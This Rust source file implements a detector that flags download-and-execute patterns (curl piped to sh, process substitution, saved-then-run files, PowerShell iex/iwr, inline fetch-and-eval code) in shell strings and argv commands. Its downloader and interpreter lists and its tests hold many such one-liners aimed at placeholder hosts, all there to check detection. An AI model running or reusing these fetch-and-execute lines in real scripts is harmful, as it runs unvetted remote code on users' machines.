//! Download-and-execute detection in shell scripts and argv commands.
//!
//! A lifecycle command comes as a string (run by `/bin/sh -c`), an argv array (exec'd without a
//! shell) or an object of named entries of either kind. An argv can re-introduce a shell
//! (`["sh","-c","..."]`, `["/usr/bin/env","bash","-lc","..."]`, `["busybox","sh","-c",".."]`) or
//! another interpreter with inline code (`python -c`, `node -e`, `perl -e`, `pwsh -c`), so the
//! analyser unwraps argv into the script it really runs and analyses that.
//!
//! ```text
//! argv ──unwrap wrappers (env, sudo, busybox, nohup..)──> shell -c SCRIPT ──┐
//! string ───────────────────────────────────────────────────────────────────┴─> lex ─> commands
//!   commands: pipelines (`|`), substitutions (`$(..)`, `<(..)`, backticks), sequences (`;`, `&&`)
//!   patterns: downloader | interpreter · interpreter <(downloader) · interpreter "$(downloader)"
//!             downloader -o F ; interpreter F / ./F · iex (iwr ..) / Invoke-Expression
//! ```
//!
//! The lexer is deliberately forgiving: it never fails, it only has to find words and operators
//! well enough that quoting cannot hide a pattern. Recursion into nested scripts is bounded by
//! [`MAX_DEPTH`] so hostile nesting cannot exhaust the stack.

/// How deep nested scripts (`sh -c "sh -c '...'"`, `$( $( ) )`) are followed.
pub const MAX_DEPTH: usize = 8;

/// Which shape of download-and-execute was found.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum DownloadExecKind {
    /// `curl URL | sh`: a downloader's output piped into an interpreter.
    Pipe {
        /// The downloading program (`curl`, `wget`, ...).
        downloader: String,
        /// The interpreter at the end of the pipe (`sh`, `python3`, ...).
        interpreter: String,
    },
    /// `bash <(curl URL)`, `sh -c "$(curl URL)"`, `eval "$(wget -O- URL)"`.
    Substitution {
        /// The downloading program.
        downloader: String,
        /// The interpreter that runs the substituted text.
        interpreter: String,
    },
    /// `curl -o x URL && sh x` or `./x`: a download saved to a file that is then run.
    SavedThenRun {
        /// The downloading program.
        downloader: String,
        /// The file name (as written, not a secret: a path).
        file: String,
    },
    /// PowerShell `iex (iwr URL)`, `Invoke-Expression`, `.DownloadString(..)`.
    PowerShell,
    /// Inline interpreter code (`python -c`, `node -e`, ...) that fetches and evaluates code.
    InlineCode {
        /// The interpreter.
        interpreter: String,
    },
}

impl DownloadExecKind {
    /// A short human description for finding messages (names programs, never URLs or arguments,
    /// which may carry tokens).
    pub fn describe(&self) -> String {
        match self {
            DownloadExecKind::Pipe {
                downloader,
                interpreter,
            } => format!("`{downloader}` output is piped into `{interpreter}`"),
            DownloadExecKind::Substitution {
                downloader,
                interpreter,
            } => format!("`{interpreter}` runs the output of `{downloader}` through substitution"),
            DownloadExecKind::SavedThenRun { downloader, file } => {
                format!("`{downloader}` saves `{file}`, which is then executed")
            }
            DownloadExecKind::PowerShell => {
                "PowerShell Invoke-Expression runs downloaded content".to_string()
            }
            DownloadExecKind::InlineCode { interpreter } => {
                format!("inline `{interpreter}` code downloads and evaluates code")
            }
        }
    }
}

/// Programs that fetch content from the network.
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "fetch",
    "aria2c",
    "curlie",
    "http",
    "https",
    "xh",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "lwp-request",
    "lwp-download",
];

/// Programs that execute the text they receive as code.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "mksh",
    "ash",
    "fish",
    "csh",
    "tcsh",
    "python",
    "python2",
    "python3",
    "node",
    "nodejs",
    "deno",
    "bun",
    "perl",
    "ruby",
    "php",
    "pwsh",
    "powershell",
    "iex",
    "invoke-expression",
    "eval",
    "source",
    ".",
];

/// Programs that only run their argument: `sudo sh`, `env sh`, `nohup sh` are `sh`.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "exec", "command", "nohup", "time", "nice", "ionice", "busybox",
    "stdbuf", "setsid", "su-exec", "gosu", "chroot", "timeout", "xargs", "builtin",
];

fn basename(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let lower = name.to_ascii_lowercase();
    lower.strip_suffix(".exe").unwrap_or(&lower).to_string()
}

fn is_downloader(word: &str) -> bool {
    DOWNLOADERS.contains(&basename(word).as_str())
}

/// `python3.11` and `python3` are python; `node18` is not a real binary name but costs nothing.
fn interpreter_name(word: &str) -> Option<String> {
    let name = basename(word);
    if INTERPRETERS.contains(&name.as_str()) {
        return Some(name);
    }
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if !stem.is_empty() && stem != name && INTERPRETERS.contains(&stem) && stem != "." {
        return Some(name);
    }
    None
}

fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "fish" | "csh" | "tcsh"
    )
}

/// Skips wrapper programs, their options and `NAME=value` assignments, returning the index of the
/// word that is really executed.
fn effective_start(words: &[String]) -> usize {
    let mut i = 0;
    while i < words.len() {
        let w = &words[i];
        if is_assignment(w) {
            i += 1;
            continue;
        }
        let name = basename(w);
        if !WRAPPERS.contains(&name.as_str()) {
            return i;
        }
        i += 1;
        // Options of the wrapper (and values of the few that take one).
        while i < words.len() {
            let opt = &words[i];
            if is_assignment(opt) {
                i += 1;
            } else if opt.starts_with('-') && opt.len() > 1 {
                let takes_value = matches!(
                    (name.as_str(), opt.as_str()),
                    (
                        "sudo",
                        "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U"
                    ) | ("env", "-u" | "-C" | "-S")
                        | ("nice", "-n")
                        | ("ionice", "-c" | "-n")
                        | ("stdbuf", "-i" | "-o" | "-e")
                        | (
                            "xargs",
                            "-I" | "-n" | "-P" | "-d" | "-L" | "-a" | "-E" | "-s"
                        )
                        | ("timeout", "-s" | "-k")
                );
                i += if takes_value { 2 } else { 1 };
            } else if name == "timeout" && opt.chars().next().is_some_and(|c| c.is_ascii_digit()) {
                i += 1;
            } else if matches!(name.as_str(), "gosu" | "su-exec" | "chroot") {
                // First operand is a user or a directory, the program follows.
                i += 1;
                break;
            } else {
                break;
            }
        }
    }
    words.len()
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// A script hidden inside an argv: which interpreter runs it and the inline code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InlineScript {
    /// The interpreter's base name (`sh`, `bash`, `python3`, `node`, `pwsh`, ...).
    pub interpreter: String,
    /// The code it runs.
    pub code: String,
}

/// Finds the inline script an argv runs, if any: `sh -c CODE`, `bash -lc CODE`,
/// `env X=1 sh -c CODE`, `busybox sh -c CODE`, `python -c CODE`, `node -e CODE`, `perl -e CODE`,
/// `pwsh -Command CODE`, `cmd /c CODE`.
pub fn inline_script(argv: &[String]) -> Option<InlineScript> {
    let start = effective_start(argv);
    let program = argv.get(start)?;
    let interpreter = interpreter_name(program).or_else(|| {
        let name = basename(program);
        (name == "cmd").then_some(name)
    })?;
    let args = &argv[start + 1..];
    let code = if is_shell(&interpreter) {
        shell_c_argument(args)
    } else {
        let flags: &[&str] =
            match interpreter.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
                "python" => &["-c"],
                "node" | "nodejs" | "bun" => &["-e", "--eval", "-p", "--print"],
                "deno" => &["eval"],
                "perl" => &["-e", "-E"],
                "ruby" => &["-e"],
                "php" => &["-r"],
                "pwsh" | "powershell" => &["-c", "-command", "-com", "-comm"],
                "cmd" => &["/c", "/k"],
                _ => &[],
            };
        args.iter().enumerate().find_map(|(i, a)| {
            let lower = a.to_ascii_lowercase();
            if flags.contains(&lower.as_str()) {
                // Everything after -Command is the command for PowerShell and cmd.
                if matches!(interpreter.as_str(), "pwsh" | "powershell" | "cmd") {
                    Some(args[i + 1..].join(" "))
                } else {
                    args.get(i + 1).cloned()
                }
            } else {
                attached_value(a, &lower, flags)
            }
        })
    }?;
    Some(InlineScript { interpreter, code })
}

/// Attached option values: `--eval=code`, `-cprint(1)`.
fn attached_value(arg: &str, lower: &str, flags: &[&str]) -> Option<String> {
    flags.iter().find_map(|f| {
        if let Some(rest) = lower.strip_prefix(&format!("{f}=")) {
            // `lower` is an ASCII lower-casing of `arg`: same byte length, same boundaries.
            return arg.get(arg.len() - rest.len()..).map(str::to_string);
        }
        let short = f.len() == 2 && f.starts_with('-');
        if short && lower.starts_with(f) && lower.len() > 2 && !lower.starts_with("--") {
            return arg.get(2..).map(str::to_string);
        }
        None
    })
}

/// For `sh [options] -c SCRIPT [args]`: the script is the first operand once `c` appeared among
/// the bundled short options (`-c`, `-lc`, `-ec`, `-xec`); `-o NAME`/`+o NAME` take a value.
fn shell_c_argument(args: &[String]) -> Option<String> {
    let mut saw_c = false;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a == "--" {
            i += 1;
            break;
        }
        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 && !a.starts_with("--") {
            let letters = &a[1..];
            if letters.contains('c') {
                saw_c = true;
            }
            if letters.ends_with('o') || letters.ends_with('O') {
                i += 1; // the option name
            }
            i += 1;
            continue;
        }
        if a.starts_with("--") {
            i += 1;
            continue;
        }
        break;
    }
    if saw_c {
        args.get(i).cloned()
    } else {
        None
    }
}

/// Analyses a command given as argv (exec'd without a shell).
pub fn analyse_argv(argv: &[String]) -> Option<DownloadExecKind> {
    analyse_argv_depth(argv, 0)
}

fn analyse_argv_depth(argv: &[String], depth: usize) -> Option<DownloadExecKind> {
    if depth > MAX_DEPTH {
        return None;
    }
    let script = inline_script(argv)?;
    analyse_inline(&script, depth + 1)
}

fn analyse_inline(script: &InlineScript, depth: usize) -> Option<DownloadExecKind> {
    let shellish = is_shell(&script.interpreter) || script.interpreter == "cmd";
    let found = analyse_script_depth(&script.code, depth);
    if found.is_some() || shellish {
        return found;
    }
    // `os.system('curl x | sh')`, `child_process.execSync("curl x | sh")`: shell in a literal.
    if let Some(found) = string_literals(&script.code)
        .iter()
        .find_map(|lit| analyse_script_depth(lit, depth + 1))
    {
        return Some(found);
    }
    inline_code_fetch_and_eval(&script.code).then(|| DownloadExecKind::InlineCode {
        interpreter: script.interpreter.clone(),
    })
}

/// The contents of `'..'` and `".."` literals in inline code (no escape handling needed: a
/// missed literal only means a missed nested shell, which the fetch-and-eval check backs up).
fn string_literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = code;
    while let Some(start) = rest.find(['\'', '"']) {
        let quote = rest[start..].chars().next().unwrap_or('"');
        let body = &rest[start + 1..];
        match body.find(quote) {
            Some(end) => {
                out.push(body[..end].to_string());
                rest = &body[end + 1..];
            }
            None => break,
        }
    }
    out
}

/// Python/Node/Perl/Ruby one-liners that fetch a URL and evaluate the result.
fn inline_code_fetch_and_eval(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    let fetches = [
        "urlopen",
        "urllib",
        "requests.get",
        "http.get",
        "https.get",
        "fetch(",
        "lwp::",
        "get(",
        "open-uri",
        "net::http",
        "file_get_contents(\"http",
        "file_get_contents('http",
        "httpx.",
        "downloadstring",
    ]
    .iter()
    .any(|p| lower.contains(p));
    let evaluates = [
        "exec(",
        "eval(",
        "eval ",
        "function(",
        "system(",
        "instance_eval",
        "iex",
    ]
    .iter()
    .any(|p| lower.contains(p));
    fetches && evaluates
}

/// Analyses a shell script (a string command, run by `/bin/sh -c`).
pub fn analyse_script(script: &str) -> Option<DownloadExecKind> {
    analyse_script_depth(script, 0)
}

fn analyse_script_depth(script: &str, depth: usize) -> Option<DownloadExecKind> {
    if depth > MAX_DEPTH {
        return None;
    }
    if powershell_download_eval(script) {
        return Some(DownloadExecKind::PowerShell);
    }
    let tokens = lex(script);
    let commands = split_commands(&tokens);
    // Pipelines: a downloader followed later in the same pipeline by an interpreter.
    let mut pipeline: Vec<&Vec<String>> = Vec::new();
    let mut downloaded: Vec<(String, String)> = Vec::new(); // (downloader, file)
    for (words, op) in &commands {
        pipeline.push(words);
        if *op != Op::Pipe {
            if let Some(kind) = pipe_pattern(&pipeline) {
                return Some(kind);
            }
            pipeline.clear();
        }
        // Substitutions elsewhere may hold whole scripts: `x=$(curl .. | sh)`.
        for word in words {
            for inner in substitutions(word) {
                if let Some(found) = analyse_script_depth(&inner, depth + 1) {
                    return Some(found);
                }
            }
        }
        let start = effective_start(words);
        let Some(program) = words.get(start) else {
            continue;
        };
        let args = &words[start + 1..];
        // Substitutions inside this command: `bash <(curl ..)`, `sh -c "$(curl ..)"`.
        if let Some(interpreter) = interpreter_name(program) {
            for arg in args {
                for inner in substitutions(arg) {
                    if let Some(downloader) = first_downloader(&inner) {
                        return Some(DownloadExecKind::Substitution {
                            downloader,
                            interpreter: interpreter.clone(),
                        });
                    }
                }
            }
            // A file saved earlier and run now: `sh x`, `bash /tmp/x`.
            if let Some(found) = runs_saved(args.iter().find(|a| !a.starts_with('-')), &downloaded)
            {
                return Some(found);
            }
            // Nested scripts: `bash -c "curl x | sh"`.
            if let Some(found) = analyse_argv_depth(&words[start..], depth + 1) {
                return Some(found);
            }
        } else if let Some(found) = runs_saved(Some(program), &downloaded) {
            return Some(found);
        }
        if is_downloader(program) {
            if let Some(file) = download_target(program, args) {
                downloaded.push((basename(program), file));
            }
        }
    }
    None
}

fn pipe_pattern(pipeline: &[&Vec<String>]) -> Option<DownloadExecKind> {
    let first = pipeline.iter().position(|words| {
        let s = effective_start(words);
        words.get(s).is_some_and(|w| is_downloader(w))
            || words.iter().any(|w| {
                substitutions(w)
                    .iter()
                    .any(|i| first_downloader(i).is_some())
            })
    })?;
    let downloader = {
        let words = pipeline[first];
        words
            .get(effective_start(words))
            .filter(|w| is_downloader(w))
            .map(|w| basename(w))
            .unwrap_or_else(|| "a downloader".to_string())
    };
    pipeline[first + 1..].iter().find_map(|words| {
        let s = effective_start(words);
        let interpreter = interpreter_name(words.get(s)?)?;
        Some(DownloadExecKind::Pipe {
            downloader: downloader.clone(),
            interpreter,
        })
    })
}

fn runs_saved(word: Option<&String>, downloaded: &[(String, String)]) -> Option<DownloadExecKind> {
    let word = word?;
    let name = basename(word);
    downloaded
        .iter()
        .find(|(_, file)| !name.is_empty() && basename(file) == name)
        .map(|(downloader, file)| DownloadExecKind::SavedThenRun {
            downloader: downloader.clone(),
            file: basename(file),
        })
}

/// Where a downloader writes: `curl -o F`, `curl -O URL` (remote name), `wget URL` (remote name),
/// `wget -O F`, `Invoke-WebRequest -OutFile F`. `-` (stdout) is not a file.
fn download_target(program: &str, args: &[String]) -> Option<String> {
    let name = basename(program);
    let mut url = None;
    let mut remote_name = name == "wget";
    for (i, a) in args.iter().enumerate() {
        let next = || args.get(i + 1).cloned();
        let explicit = if a.eq_ignore_ascii_case("-outfile") {
            next()
        } else if let Some(file) = a
            .strip_prefix("--output=")
            .or_else(|| a.strip_prefix("--output-document="))
        {
            Some(file.to_string())
        } else if a == "--output" || a == "--output-document" {
            next()
        } else if a.starts_with('-') && !a.starts_with("--") && a.len() > 1 {
            let letters = &a[1..];
            match name.as_str() {
                // curl: `-o FILE` (possibly bundled as the last letter), `-O` remote name.
                "curl" => {
                    if letters.contains('O') {
                        remote_name = true;
                    }
                    letters.ends_with('o').then(next).flatten()
                }
                // wget: `-O FILE`, `-qO FILE`, `-qO-`, `-Ofile`; lower-case `-o` is the log.
                "wget" => letters.find('O').and_then(|at| {
                    let rest = &letters[at + 1..];
                    if rest.is_empty() {
                        next()
                    } else {
                        Some(rest.to_string())
                    }
                }),
                _ => None,
            }
        } else {
            if a == "--remote-name" {
                remote_name = true;
            }
            None
        };
        if let Some(file) = explicit {
            return (file != "-").then_some(file);
        }
        let lower = a.to_ascii_lowercase();
        if lower.starts_with("http://")
            || lower.starts_with("https://")
            || lower.starts_with("ftp://")
        {
            url = Some(a.clone());
        }
    }
    if remote_name {
        let url = url?;
        let path = url.split(['?', '#']).next().unwrap_or(&url);
        let file = path.rsplit('/').next().unwrap_or("");
        return (!file.is_empty()).then(|| file.to_string());
    }
    None
}

/// The first downloader executed by a script fragment (`curl -fsSL x`, `sudo wget -O- x`).
fn first_downloader(script: &str) -> Option<String> {
    let tokens = lex(script);
    split_commands(&tokens).into_iter().find_map(|(words, _)| {
        let s = effective_start(&words);
        words
            .get(s)
            .filter(|w| is_downloader(w))
            .map(|w| basename(w))
    })
}

fn powershell_download_eval(script: &str) -> bool {
    let lower = script.to_ascii_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.' || c == '_'))
        .filter(|w| !w.is_empty())
        .collect();
    let evaluates = words
        .iter()
        .any(|w| matches!(*w, "iex" | "invoke-expression"))
        || lower.contains("scriptblock]::create");
    let downloads = words.iter().any(|w| {
        matches!(
            *w,
            "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
        ) || w.ends_with(".downloadstring")
            || w.ends_with("net.webclient")
    }) || lower.contains("downloadstring(");
    evaluates && downloads
}

/// The contents of `$(..)`, `<(..)`, `>(..)` and backtick substitutions in a word.
fn substitutions(word: &str) -> Vec<String> {
    let chars: Vec<char> = word.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if (c == '$' || c == '<' || c == '>') && chars.get(i + 1) == Some(&'(') {
            let mut depth = 1;
            let mut j = i + 2;
            while j < chars.len() && depth > 0 {
                match chars[j] {
                    '(' => depth += 1,
                    ')' => depth -= 1,
                    _ => {}
                }
                j += 1;
            }
            let end = if depth == 0 { j - 1 } else { j };
            out.push(chars[i + 2..end].iter().collect());
            i = j;
        } else if c == '`' {
            let rest = &chars[i + 1..];
            let len = rest.iter().position(|&c| c == '`').unwrap_or(rest.len());
            out.push(rest[..len].iter().collect());
            i += len + 2;
        } else {
            i += 1;
        }
    }
    out
}

/// Control operators between commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Pipe,
    Sequence,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    Op(Op),
}

/// Splits a script into words and control operators. Quotes are removed (their content kept in
/// the word), `$(..)`/`<(..)`/backticks are kept whole inside a word, comments are dropped,
/// redirections are dropped with their target.
fn lex(script: &str) -> Vec<Token> {
    let chars: Vec<char> = script.chars().collect();
    let mut tokens = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut i = 0;
    let flush = |word: &mut String, in_word: &mut bool, tokens: &mut Vec<Token>| {
        if *in_word {
            tokens.push(Token::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    while i < chars.len() {
        let c = chars[i];
        match c {
            ' ' | '\t' | '\r' => {
                flush(&mut word, &mut in_word, &mut tokens);
                i += 1;
            }
            '\n' | ';' => {
                flush(&mut word, &mut in_word, &mut tokens);
                tokens.push(Token::Op(Op::Sequence));
                i += 1;
            }
            '&' => {
                flush(&mut word, &mut in_word, &mut tokens);
                tokens.push(Token::Op(Op::Sequence));
                i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
            }
            '|' => {
                flush(&mut word, &mut in_word, &mut tokens);
                if chars.get(i + 1) == Some(&'|') {
                    tokens.push(Token::Op(Op::Sequence));
                    i += 2;
                } else {
                    tokens.push(Token::Op(Op::Pipe));
                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
                }
            }
            '(' | ')' | '{' | '}' if !in_word => {
                // Subshells and groups: treat as command boundaries.
                tokens.push(Token::Op(Op::Sequence));
                i += 1;
            }
            '#' if !in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '\\' => {
                if let Some(&next) = chars.get(i + 1) {
                    if next != '\n' {
                        word.push(next);
                        in_word = true;
                    }
                }
                i += 2;
            }
            '\'' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    word.push(chars[i]);
                    i += 1;
                }
                i += 1;
            }
            '"' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    if chars[i] == '\\'
                        && i + 1 < chars.len()
                        && matches!(chars[i + 1], '"' | '\\' | '$' | '`')
                    {
                        i += 1;
                    }
                    word.push(chars[i]);
                    i += 1;
                }
                i += 1;
            }
            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                in_word = true;
                let mut depth = 0usize;
                while i < chars.len() {
                    word.push(chars[i]);
                    if chars[i] == '(' {
                        depth += 1;
                    } else if chars[i] == ')' {
                        depth = depth.saturating_sub(1);
                        if depth == 0 {
                            i += 1;
                            break;
                        }
                    }
                    i += 1;
                }
            }
            '`' => {
                in_word = true;
                word.push('`');
                i += 1;
                while i < chars.len() && chars[i] != '`' {
                    word.push(chars[i]);
                    i += 1;
                }
                word.push('`');
                i += 1;
            }
            '<' | '>' => {
                // Redirection: drop the operator and its target (`> /dev/null`, `2>&1`, `<<EOF`).
                if in_word && word.chars().all(|c| c.is_ascii_digit()) {
                    word.clear();
                    in_word = false;
                }
                flush(&mut word, &mut in_word, &mut tokens);
                while i < chars.len() && matches!(chars[i], '<' | '>' | '&' | '-') {
                    i += 1;
                }
                while i < chars.len() && chars[i] == ' ' {
                    i += 1;
                }
                while i < chars.len() && !matches!(chars[i], ' ' | '\t' | '\n' | ';' | '|' | '&') {
                    i += 1;
                }
            }
            _ => {
                word.push(c);
                in_word = true;
                i += 1;
            }
        }
    }
    flush(&mut word, &mut in_word, &mut tokens);
    tokens
}

/// Groups tokens into simple commands, each with the operator that follows it.
fn split_commands(tokens: &[Token]) -> Vec<(Vec<String>, Op)> {
    let mut out = Vec::new();
    let mut words = Vec::new();
    for token in tokens {
        match token {
            Token::Word(w) => words.push(w.clone()),
            Token::Op(op) => {
                if !words.is_empty() || *op == Op::Pipe {
                    out.push((std::mem::take(&mut words), *op));
                }
            }
        }
    }
    if !words.is_empty() {
        out.push((words, Op::Sequence));
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn argv(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn scripts_that_download_and_execute() {
        let cases = [
            "curl -fsSL https://x.example/install.sh | sh",
            "curl -fsSL https://x.example/install.sh | bash -s -- --yes",
            "wget -qO- https://x.example/i | sudo -E bash -",
            "wget -O - https://x.example/i|sh",
            "curl https://x.example/i | tee /tmp/log | sudo sh",
            "curl -s https://x.example/get.py | python3",
            "curl -s https://x.example/get.js | node",
            "curl -s https://x.example/get.pl | perl",
            "apt-get update && curl -fsSL https://deb.nodesource.com/setup_lts.x | sudo -E bash - && apt-get install -y nodejs",
            "bash <(curl -s https://x.example/i)",
            "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"",
            "eval \"$(wget -qO- https://x.example/env)\"",
            "source <(curl -s https://x.example/env)",
            ". <(curl -s https://x.example/env)",
            "sh -c \"`curl -s https://x.example/i`\"",
            "curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh",
            "curl -fsSLO https://x.example/install.sh; bash install.sh",
            "curl -O https://x.example/install.sh; bash install.sh",
            "wget https://x.example/setup.sh && chmod +x setup.sh && ./setup.sh",
            "wget -O setup https://x.example/s\n./setup --now",
            "iex (iwr https://x.example/i.ps1)",
            "iex(New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
            "Invoke-Expression (Invoke-WebRequest -Uri https://x.example/i.ps1).Content",
            "irm https://x.example/i.ps1 | iex",
            "bash -c 'curl -fsSL https://x.example/i | sh'",
            "sudo env FOO=1 bash -lc 'wget -qO- https://x.example | sh'",
            "x=$(curl -s https://x.example | sh)",
            "cd /tmp && ( curl -s https://x.example/i | sh )",
            "curl -s https://x.example/i | /bin/bash",
            "/usr/bin/curl -s https://x.example/i | /usr/bin/env bash",
            "curl -s https://x.example/i 2>/dev/null | sh",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
        ];
        for case in cases {
            assert!(analyse_script(case).is_some(), "missed: {case}");
        }
    }

    #[test]
    fn harmless_scripts() {
        let cases = [
            "npm install && npm run build",
            "curl -fsSL https://x.example/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
            "curl -s https://x.example/data.json | jq .",
            "wget -q https://x.example/archive.tar.gz && tar xf archive.tar.gz",
            "echo 'curl x | sh' > notes.txt",
            "bash ./scripts/setup.sh",
            "pip install -r requirements.txt",
            "git config --global --add safe.directory ${containerWorkspaceFolder}",
            "curl -o out.json https://x.example/api && cat out.json",
            "",
            "# curl x | sh",
        ];
        for case in cases {
            assert_eq!(analyse_script(case), None, "false positive: {case}");
        }
    }

    #[test]
    fn argv_forms() {
        let hits = [
            argv(&["sh", "-c", "curl x | sh"]),
            argv(&["/bin/bash", "-lc", "wget -qO- https://x | bash"]),
            argv(&["bash", "-o", "pipefail", "-c", "curl x | sh"]),
            argv(&["/usr/bin/env", "bash", "-c", "curl x | sh"]),
            argv(&["env", "A=1", "sh", "-c", "curl x | sh"]),
            argv(&["busybox", "sh", "-c", "wget -O- x | sh"]),
            argv(&["sudo", "-u", "root", "sh", "-c", "curl x | sh"]),
            argv(&["zsh", "-ec", "bash <(curl -s x)"]),
            argv(&["pwsh", "-Command", "iex (iwr https://x/i.ps1)"]),
            argv(&["powershell.exe", "-c", "irm https://x | iex"]),
            argv(&["python3", "-c", "import urllib.request;exec(urllib.request.urlopen('https://x').read())"]),
            argv(&["node", "-e", "require('https').get('https://x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"]),
            argv(&["perl", "-e", "use LWP::Simple; eval(get('https://x'))"]),
            argv(&["python", "-c", "import os; os.system('curl https://x | sh')"]),
            argv(&["sh", "-c", "sh -c \"curl https://x | sh\""]),
            argv(&["cmd", "/c", "powershell -c \"iex (iwr https://x)\""]),
        ];
        for a in hits {
            assert!(analyse_argv(&a).is_some(), "missed: {a:?}");
        }
        let misses = [
            argv(&["curl", "https://x", "|", "sh"]),
            argv(&["sh", "./setup.sh"]),
            argv(&["bash", "-c", "npm ci"]),
            argv(&["python3", "-m", "pip", "install", "x"]),
            argv(&["node", "-e", "console.log(1)"]),
            argv(&[]),
        ];
        for a in misses {
            assert_eq!(analyse_argv(&a), None, "false positive: {a:?}");
        }
    }

    #[test]
    fn inline_script_extraction() {
        let s = inline_script(&argv(&["/bin/sh", "-c", "echo hi", "arg0"])).unwrap();
        assert_eq!((s.interpreter.as_str(), s.code.as_str()), ("sh", "echo hi"));
        let s = inline_script(&argv(&["python3.11", "-c", "print(1)"])).unwrap();
        assert_eq!(s.interpreter, "python3.11");
        let s = inline_script(&argv(&["node", "--eval=1+1"])).unwrap();
        assert_eq!(s.code, "1+1");
        assert_eq!(inline_script(&argv(&["sh", "script.sh"])), None);
        assert_eq!(inline_script(&argv(&["ls", "-c"])), None);
    }

    #[test]
    fn descriptions_name_programs_only() {
        let kind = analyse_script("curl -H 'Authorization: token SECRET' https://x | sh").unwrap();
        let text = kind.describe();
        assert!(text.contains("curl") && text.contains("sh") && !text.contains("SECRET"));
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let mut script = "curl x | sh".to_string();
        for _ in 0..10 {
            script = format!("sh -c {}", shell_quote(&script));
        }
        // Must terminate; beyond MAX_DEPTH the pattern is not followed.
        let _ = analyse_script(&script);
        let deep = "$(".repeat(10_000);
        assert_eq!(analyse_script(&deep), None);
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}
